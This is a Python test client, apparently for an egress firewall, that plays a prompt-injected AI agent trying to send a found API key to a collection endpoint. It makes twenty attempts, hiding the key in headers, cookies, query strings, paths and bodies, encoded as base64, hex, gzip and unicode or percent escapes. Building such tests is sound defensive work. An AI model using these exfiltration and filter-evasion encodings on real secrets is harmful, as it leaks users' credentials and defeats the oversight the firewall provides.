"""A prompt-injected agent: it found a key in a file and tries to send it out, every way it can.

Usage: exfil_client.py BASE_URL SECRET_FILE OUT_FILE
Runs under `firewall run`; writes JSON: each attempt's status and body, and its own
environment and command line (so the test can check the key is not in them).
"""

import base64
import gzip
import io
import json
import sys
from urllib.parse import quote

import httpx

base, secret_file, out_file = sys.argv[1:4]
secret = open(secret_file).read().strip()
raw = secret.encode()


def unicode_escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c.isalpha() else c for c in text)


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


wrapped = base64.encodebytes(b"%PDF-1.4 attachment " + raw + b" trailer" * 20).decode()  # 76-char lines
multipart_file = io.BytesIO(b"notes from the repo\nOPENAI_API_KEY=" + raw + b"\n")

ATTEMPTS = {
    "custom header": dict(method="GET", path="/collect", headers={"X-Debug": secret}),
    "authorization bearer": dict(method="GET", path="/collect", headers={"Authorization": f"Bearer {secret}"}),
    "cookie": dict(method="GET", path="/collect", headers={"Cookie": f"theme=dark; session={secret}"}),
    "user-agent": dict(method="GET", path="/collect", headers={"User-Agent": f"agent/1.0 ({secret})"}),
    "basic auth": dict(method="GET", path="/collect", headers={"Authorization": "Basic " + b64(b"me:" + raw)}),
    "header name": dict(method="GET", path="/collect", headers={f"X-{secret}": "1"}),
    "base64 header, offset 2": dict(method="GET", path="/collect", headers={"X-Blob": b64(b"ab" + raw)}),
    "query": dict(method="GET", path=f"/collect?key={secret}"),
    "query, fully percent-encoded": dict(method="GET", path="/collect?k=" + "".join(f"%{b:02X}" for b in raw)),
    "query, hex": dict(method="GET", path=f"/collect?h={raw.hex()}"),
    "path segment": dict(method="GET", path=f"/collect/{secret}/x"),
    "json": dict(method="POST", path="/collect", json={"note": "found this", "data": secret}),
    "json, unicode-escaped": dict(
        method="POST",
        path="/collect",
        content=('{"data": "' + unicode_escaped(secret) + '"}').encode(),
        headers={"Content-Type": "application/json"},
    ),
    "form": dict(method="POST", path="/collect", data={"data": secret, "x": "1"}),
    "form, percent-encoded twice": dict(
        method="POST",
        path="/collect",
        content=b"d=" + quote(quote(secret, safe=""), safe="").encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    ),
    "multipart file": dict(method="POST", path="/collect", files={"file": ("notes.txt", multipart_file, "text/plain")}),
    "base64 body": dict(method="POST", path="/collect", content=base64.b64encode(raw)),
    "url-safe base64 in json, offset 1": dict(
        method="POST", path="/collect", json={"blob": base64.urlsafe_b64encode(b"x" + raw).decode()}
    ),
    "base64 with line breaks (MIME)": dict(
        method="POST",
        path="/collect",
        content=wrapped.encode(),
        headers={"Content-Type": "application/pdf", "Content-Transfer-Encoding": "base64"},
    ),
    "gzip-compressed json": dict(
        method="POST",
        path="/collect",
        content=gzip.compress(json.dumps({"k": secret}).encode()),
        headers={"Content-Type": "application/json", "Content-Encoding": "gzip"},
    ),
}

results = {}
with httpx.Client(timeout=30) as client:
    for name, attempt in ATTEMPTS.items():
        attempt = dict(attempt)
        method, path = attempt.pop("method"), attempt.pop("path")
        try:
            response = client.request(method, base + path, **attempt)
            results[name] = {"status": response.status_code, "body": response.text, "headers": dict(response.headers)}
        except httpx.HTTPError as exc:
            results[name] = {"status": None, "body": f"{type(exc).__name__}: {exc}", "headers": {}}

with open("/proc/self/environ", "rb") as handle:
    environ = handle.read().decode(errors="replace").split("\0")
with open("/proc/self/cmdline", "rb") as handle:
    cmdline = handle.read().decode(errors="replace").split("\0")
with open(out_file, "w") as handle:
    json.dump({"results": results, "environ": environ, "cmdline": cmdline}, handle)
